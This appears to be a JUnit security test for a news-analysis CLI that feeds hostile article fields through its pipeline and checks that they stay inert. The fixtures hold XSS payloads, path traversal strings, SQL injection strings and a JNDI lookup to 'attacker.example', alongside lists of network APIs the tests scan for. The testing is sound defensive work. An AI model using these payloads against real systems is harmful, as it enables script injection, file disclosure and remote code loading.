package org.frontline.cli;

import com.fasterxml.jackson.databind.ObjectMapper;
import org.frontline.SparkTest;
import org.frontline.lake.Lake;
import org.frontline.lake.Tables;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.HashSet;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.atomic.AtomicBoolean;
import java.util.stream.Collectors;
import java.util.stream.Stream;

import static org.apache.spark.sql.functions.*;
import static org.junit.jupiter.api.Assertions.*;

/**
 * Articles whose ids, titles, outlets and links are attacks (script tags, attribute breakers, path traversal,
 * SQL) go through ingest, extract, events, trends and the report: they stay data. No file is named after them,
 * no statement is built from them, and the report shows them as text, never as markup or links to scripts.
 */
class SecurityTest extends SparkTest {
  @TempDir
  static Path dir;
  static Path lake;
  static Path report;
  static String html;
  static final List<String> IDS = List.of("<script>alert(1)</script>", "\"><img src=x onerror=alert(2)>",
      "../../etc/passwd", "x' OR '1'='1", "..\\..\\windows\\win.ini");

  static String record(String id, String title, String outlet, String url, String body) {
    return new ObjectMapper().createObjectNode().put("doc_id", id).put("published", "2026-02-04T07:00:00Z")
        .put("title", title).put("outlet", outlet).put("url", url).put("body", body).toString();
  }

  @BeforeAll
  static void run() throws IOException {
    spark();
    Path in = Files.createDirectories(dir.resolve("in"));
    Files.write(in.resolve("hostile.jsonl"), List.of(
        record(IDS.get(0), "<script>alert(\"title\")</script> Drones hit Kharkiv", "<b onmouseover=alert(5)>Wire</b>",
            "javascript:alert(1)", "Russian drones struck Kharkiv overnight, killing two people and injuring five, "
                + "the governor said."),
        record(IDS.get(1), "\"><img src=x onerror=alert(2)> Missiles hit Odesa", "Port \"News\" & <i>Co</i>",
            "https://news.example/\"><svg/onload=alert(3)>", "Russian missiles hit the port of Odesa on "
                + "Wednesday, killing three people, officials said."),
        record(IDS.get(2), "../../etc/passwd", "../../../tmp/pwned", "file:///etc/passwd",
            "A Russian glide bomb struck Zaporizhzhia on Wednesday, injuring four people."),
        record(IDS.get(3), "'; DROP TABLE events; --", "Robert'); DROP TABLE articles;--",
            "https://news.example/a?id=1' OR '1'='1", "Russian drones attacked Sumy overnight; one person was killed."),
        record(IDS.get(4), "${jndi:ldap://attacker.example/a}", "%s%n%x", "data:text/html,<script>alert(6)</script>",
            "Russian drones struck Dnipro overnight, injuring two people, the regional governor said.")),
        StandardCharsets.UTF_8);
    lake = dir.resolve("lake");
    report = dir.resolve("report");
    String l = lake.toString();
    // this JVM's TCP connections, sampled while the stages run (Linux: /proc)
    AtomicBoolean running = new AtomicBoolean(true);
    Thread sampler = new Thread(() -> {
      while (running.get()) {
        peers.addAll(tcpPeers());
        try {
          Thread.sleep(50);
        } catch (InterruptedException e) {
          return;
        }
      }
    });
    sampler.setDaemon(true);
    sampler.start();
    Cli.ok("ingest", "--input", in.toString(), "--lake", l, "--master", "local[2]");
    Cli.ok("extract", "--as-of", "2026-02-05", "--lake", l, "--master", "local[2]");
    Cli.ok("events", "--lake", l, "--master", "local[2]");
    Cli.ok("trends", "--lake", l, "--master", "local[2]");
    Cli.ok("report", "--out", report.toString(), "--date", "2026-02-04", "--lake", l, "--master", "local[2]");
    html = Files.readString(report.resolve("report.html"), StandardCharsets.UTF_8);
    running.set(false);
  }

  static final Set<String> peers = ConcurrentHashMap.newKeySet();

  /**
   * The remote addresses (hex, as {@code /proc/net/tcp} writes them) of this process's TCP sockets: its socket
   * inodes from {@code /proc/self/fd}, looked up in {@code /proc/self/net/tcp} and {@code tcp6}. Empty where
   * there is no {@code /proc}.
   */
  static Set<String> tcpPeers() {
    Set<String> inodes = new HashSet<>();
    Set<String> out = new HashSet<>();
    try (Stream<Path> fds = Files.list(Path.of("/proc/self/fd"))) {
      for (Path fd : (Iterable<Path>) fds::iterator) {
        try {
          String target = Files.readSymbolicLink(fd).toString();
          if (target.startsWith("socket:[")) {
            inodes.add(target.substring(8, target.length() - 1));
          }
        } catch (IOException | RuntimeException gone) {
          // closed meanwhile
        }
      }
      for (String table : List.of("/proc/self/net/tcp", "/proc/self/net/tcp6")) {
        List<String> lines = Files.readAllLines(Path.of(table));
        for (String line : lines.subList(1, lines.size())) {
          String[] f = line.trim().split("\\s+");
          if (f.length > 9 && inodes.contains(f[9])) {
            out.add(f[2].substring(0, f[2].indexOf(':')));
          }
        }
      }
    } catch (IOException e) {
      return out;
    }
    return out;
  }

  /** 127.0.0.0/8, ::1, ::ffff:127.x (and unconnected: all zeros), in /proc's byte order. */
  static boolean loopbackOrNone(String hex) {
    if (hex.length() == 8) {
      return hex.endsWith("7F") || hex.equals("00000000");
    }
    return hex.equals("00000000000000000000000001000000") || hex.matches("0{32}")
        || hex.startsWith("0000000000000000FFFF0000") && hex.endsWith("7F");
  }

  @Test
  void hostileIdsAndTitlesAreStoredAsTheyCame() {
    Lake l = new Lake(spark(), lake.toString());
    Set<String> ids = l.read(Tables.ARTICLES).select("doc_id").collectAsList().stream().map(r -> r.getString(0))
        .collect(Collectors.toSet());
    assertEquals(Set.copyOf(IDS), ids);
    assertTrue(l.read(Tables.EVENTS).where(array_contains(col("doc_ids"), IDS.get(2))).count() > 0,
        "the traversal id is an event's source like any other");
  }

  @Test
  void noPathIsMadeFromArticleData() throws IOException {
    try (Stream<Path> all = Files.walk(dir)) {
      for (Path p : (Iterable<Path>) all::iterator) {
        String name = dir.relativize(p).toString();
        for (String bad : List.of("<", ">", "'", "\"", "passwd", "pwned", "win.ini", "script", "alert", "jndi")) {
          assertFalse(name.contains(bad), "a path made from article data: " + p);
        }
      }
    }
    assertFalse(Files.exists(dir.getParent().resolve("tmp/pwned")));
    assertFalse(Files.exists(lake.getParent().resolve("etc/passwd")));
  }

  @Test
  void theReportShowsHostileTextAsTextOnly() {
    // parsed as a browser parses it: what is markup there, not what a string search finds
    Document doc = Jsoup.parse(html);
    assertTrue(doc.select("script, iframe, object, embed, form, base, link").isEmpty(), "active elements");
    for (Element e : doc.getAllElements()) {
      for (Attribute a : e.attributes()) {
        assertFalse(a.getKey().toLowerCase(Locale.ROOT).startsWith("on"), "an event handler: " + e);
        if (a.getKey().equalsIgnoreCase("href") || a.getKey().equalsIgnoreCase("src")) {
          assertTrue(a.getValue().matches("(?i)(https?://|#|data:image/).*"), "a link that is not http(s): " + e);
        }
      }
      assertFalse(e.tagName().equals("img") && !e.attr("src").startsWith("data:image/"), "an image: " + e);
    }
    assertEquals("default-src 'none'; style-src 'unsafe-inline'; img-src data:",
        doc.select("meta[http-equiv=Content-Security-Policy]").attr("content"),
        "the page forbids scripts and requests of its own");
    // the hostile strings are there, as text and attribute values; ingest's cleaner has already removed the
    // markup from titles (a title is text), an outlet's name is kept as it came
    Set<String> titles = doc.select("[title]").stream().map(e -> e.attr("title")).collect(Collectors.toSet());
    assertTrue(titles.containsAll(Set.of("Drones hit Kharkiv", "\"> Missiles hit Odesa", "../../etc/passwd",
        "'; DROP TABLE events; --", "${jndi:ldap://attacker.example/a}")), titles.toString());
    assertTrue(doc.text().contains("Port \"News\" & <i>Co</i>"), "the outlet is shown as text");
    assertTrue(doc.select("a[href]").stream().anyMatch(a -> a.attr("href")
        .equals("https://news.example/\"><svg/onload=alert(3)>")), "an http(s) link stays one attribute");
  }

  @Test
  void reportFilesAreNamedByTheReportNotByItsData() throws IOException {
    try (Stream<Path> files = Files.list(report)) {
      for (Path f : (Iterable<Path>) files::iterator) {
        assertTrue(f.getFileName().toString().matches("[a-z0-9_.-]+"), f.toString());
      }
    }
  }

  @Test
  void theStagesConnectToNothingButLoopback() {
    Assumptions.assumeTrue(Files.isDirectory(Path.of("/proc/self/fd")), "no /proc here");
    assertFalse(peers.isEmpty(), "the sampler saw Spark's own loopback sockets");
    for (String peer : peers) {
      assertTrue(loopbackOrNone(peer), "a TCP connection to a non-loopback address: " + peer + " of " + peers);
    }
  }

  /**
   * Frontline's own classes name no network API: sockets, URL connections, HTTP clients. Spark opens its own
   * (the driver's and block manager's ports: loopback in local mode); the jobs read and write only files.
   */
  @Test
  void frontlinesCodeOpensNoConnectionsOfItsOwn() throws Exception {
    Path classes = Path.of(Frontline.class.getProtectionDomain().getCodeSource().getLocation().toURI());
    List<String> apis = List.of("java/net/Socket", "java/net/ServerSocket", "java/net/DatagramSocket",
        "java/net/URLConnection", "java/net/HttpURLConnection", "java/net/http/", "java/nio/channels/SocketChannel",
        "javax/net/ssl/", "openConnection", "openStream", "org/apache/http/", "okhttp3/");
    int scanned = 0;
    try (Stream<Path> files = Files.walk(classes)) {
      for (Path f : (Iterable<Path>) files.filter(p -> p.toString().endsWith(".class"))::iterator) {
        // a class file names every class and method it calls in its constant pool, as modified UTF-8
        String pool = new String(Files.readAllBytes(f), StandardCharsets.ISO_8859_1);
        for (String api : apis) {
          assertFalse(pool.contains(api), classes.relativize(f) + " refers to " + api);
        }
        scanned++;
      }
    }
    assertTrue(scanned > 100, "classes scanned: " + scanned);
  }
}
